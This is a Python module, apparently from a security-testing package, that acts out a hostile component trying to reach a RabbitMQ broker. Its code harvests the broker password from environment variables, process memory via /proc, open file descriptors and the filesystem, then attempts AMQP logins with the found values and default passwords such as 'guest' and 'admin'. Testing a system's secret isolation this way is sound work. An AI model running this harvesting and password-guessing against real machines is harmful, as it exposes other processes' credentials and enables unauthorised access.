# ruff: noqa
"""What a hostile interview would try to get at the message broker: looks for its password everywhere, then knocks.

A module of an interview package, and an ordinary program. `target` tells it more than an interview can
know: where the broker listens, who its user is, which processes are ours, where their files lie; and the SHA-256 and
the length of the password, so that it knows the password wherever it sees it without having it in its own text. In a
rehearsal it looks at itself and the given folders only: what else is on the machine is nobody's business then.
"""

from __future__ import annotations

import contextlib
import gc
import hashlib
import json
import os
import re
import socket
import struct
import sys
import time
from collections.abc import Iterator
from typing import Any

SEARCH_SECONDS = 12.0
LARGEST_FILE = 2_000_000
URLS = re.compile(rb"amqps?://([^:@/\s]+):([^:@/\s]+)@")
LIKELY = ("/etc/rabbitmq", "/var/lib/rabbitmq", "/var/log/rabbitmq", "/run", "/root", "/home", "/tmp", "/etc")
"""Where passwords are looked for before the rest of the machine."""
GUESSES = ("guest", "admin", "rabbitmq", "colloquy", "user", "test", "password", "")


class Search:
    """Looks at bytes for the password, and for anything that looks like an address of a broker."""

    def __init__(self, digest: str, size: int) -> None:
        self._digest = digest
        self._words = re.compile(rb"(?<![A-Za-z0-9])[A-Za-z0-9]{%d}(?![A-Za-z0-9])" % size)
        self.found: dict[str, list[str]] = {}
        self.pairs: set[tuple[str, str]] = set()
        self.looked_at: dict[str, int] = {}

    def look(self, where: str, held: bytes) -> None:
        kind = where.split(":")[0]
        self.looked_at[kind] = self.looked_at.get(kind, 0) + 1
        for user, password in URLS.findall(held):
            self.pairs.add((user.decode(errors="replace"), password.decode(errors="replace")))
        for word in self._words.findall(held):
            if hashlib.sha256(word).hexdigest() == self._digest:
                self.found.setdefault(kind, []).append(where)
                self.pairs.add(("", word.decode()))

    def look_at_file(self, kind: str, path: str) -> None:
        with contextlib.suppress(OSError, ValueError), open(path, "rb") as file:
            self.look(f"{kind}:{path}", file.read(LARGEST_FILE))


def attack(target: dict[str, Any], config: object = None) -> dict[str, Any]:
    """Everything that was got hold of, and what the broker said to each attempt to come in."""
    search = Search(target["digest"], target["size"])
    search.look("environment", "\n".join(f"{name}={value}" for name, value in os.environ.items()).encode())
    search.look("arguments", "\n".join([*sys.argv, *sys.orig_argv]).encode())
    search.look("configuration", repr(config).encode())
    for text in _texts_in_reach():
        search.look("objects", text)
    for module in ("services.session.settings", "services.worker.settings", "shared.kernel.settings"):
        with contextlib.suppress(BaseException):
            search.look(f"settings:{module}", repr(vars(__import__(module, fromlist=["x"]))).encode())
    for number in range(3, 256):
        if os.path.isfile(f"/proc/self/fd/{number}"):  # a pipe would keep it waiting
            search.look_at_file("descriptors", f"/proc/self/fd/{number}")
    is_rehearsal = bool(target.get("is_rehearsal"))
    for pid in ["self", *target["pids"], *([] if is_rehearsal else _processes())]:
        for name in ("environ", "cmdline"):
            search.look_at_file("processes", f"/proc/{pid}/{name}")
    for pid in ["self", *target["pids"]]:
        _look_at_memory(search, pid)
    ends = time.monotonic() + SEARCH_SECONDS
    for path in _files([*target["folders"], *([] if is_rehearsal else [os.getcwd(), *LIKELY, "/"])]):
        if time.monotonic() > ends:
            break
        search.look_at_file("files", path)
    return {"found": search.found, "looked_at": search.looked_at, "answers": knock(target, search.pairs)}


def _texts_in_reach() -> Iterator[bytes]:
    for one in gc.get_objects():
        values = one.values() if isinstance(one, dict) else one if isinstance(one, list | tuple) else ()
        with contextlib.suppress(Exception):
            for value in list(values):
                if isinstance(value, str):
                    yield value.encode(errors="replace")
                elif isinstance(value, bytes):
                    yield value


def _processes() -> list[str]:
    with contextlib.suppress(OSError):
        return [name for name in os.listdir("/proc") if name.isdigit()]
    return []


def _look_at_memory(search: Search, pid: object) -> None:
    with contextlib.suppress(OSError, ValueError):
        with open(f"/proc/{pid}/maps") as file:
            maps = file.read()
        with open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for start, end in re.findall(r"^([0-9a-f]+)-([0-9a-f]+) rw", maps, re.M):
                with contextlib.suppress(OSError, ValueError, OverflowError):
                    memory.seek(int(start, 16))
                    search.look(f"memory:{pid}", memory.read(min(int(end, 16) - int(start, 16), 50_000_000)))


def _files(folders: list[str]) -> Iterator[str]:
    for folder in folders:
        for place, below, names in os.walk(folder):
            below[:] = [name for name in below if name not in ("proc", "sys", "site-packages", "node_modules")]
            for name in names:
                path = os.path.join(place, name)
                if os.path.isfile(path) and not os.path.islink(path):
                    yield path


def knock(target: dict[str, Any], pairs: set[tuple[str, str]]) -> dict[str, str]:
    """Try what was found and what is obvious; by `user/password` or its kind, how each ended."""
    tries = [(user or target["user"], password) for user, password in pairs]
    tries += [(name, name) for name in GUESSES]
    tries += [(target["user"], guess) for guess in GUESSES] + [("guest", target["user"])]
    return {f"{user}/{password}": enter(target["host"], target["port"], user, password) for user, password in tries}


def enter(host: str, port: int, user: str, password: str) -> str:
    """Speak AMQP 0-9-1 as far as the broker goes along: `let in`, or how it refused."""
    try:
        with socket.create_connection((host, port), timeout=10) as line:
            line.settimeout(10)
            line.sendall(b"AMQP\x00\x00\x09\x01")
            if _method(line) != (10, 10):
                return "no AMQP"
            honest = _short("authentication_failure_close") + b"t\x01"
            properties = _short("capabilities") + b"F" + _long(honest)
            response = b"\0" + user.encode() + b"\0" + password.encode()
            start_ok = struct.pack(">HH", 10, 11) + _long(properties) + _short("PLAIN") + _long(response)
            line.sendall(_frame(start_ok + _short("en_US")))
            answer = _method(line)
            if answer == (10, 30):
                line.sendall(_frame(struct.pack(">HHHIH", 10, 31, 2_047, 131_072, 60)))
                line.sendall(_frame(struct.pack(">HH", 10, 40) + _short("/") + _short("") + b"\0"))
                return "let in" if _method(line) == (10, 41) else "let in, but not to this virtual host"
            return "refused" if answer == (10, 50) else f"unexpected: {answer}"
    except OSError as error:
        return f"closed: {type(error).__name__}"


def _method(line: socket.socket) -> tuple[int, int]:
    _, _, size = struct.unpack(">BHI", _exactly(line, 7))
    payload = _exactly(line, size + 1)
    numbers: tuple[int, int] = struct.unpack(">HH", payload[:4])
    return numbers


def _exactly(line: socket.socket, size: int) -> bytes:
    held = b""
    while len(held) < size:
        more = line.recv(size - len(held))
        if not more:
            raise ConnectionResetError
        held += more
    return held


def _frame(payload: bytes) -> bytes:
    return struct.pack(">BHI", 1, 0, len(payload)) + payload + b"\xce"


def _short(text: str) -> bytes:
    return bytes([len(text)]) + text.encode()


def _long(held: bytes) -> bytes:
    return struct.pack(">I", len(held)) + held


if __name__ == "__main__":
    sys.stdout.write(json.dumps(attack(json.loads(sys.argv[1]))))
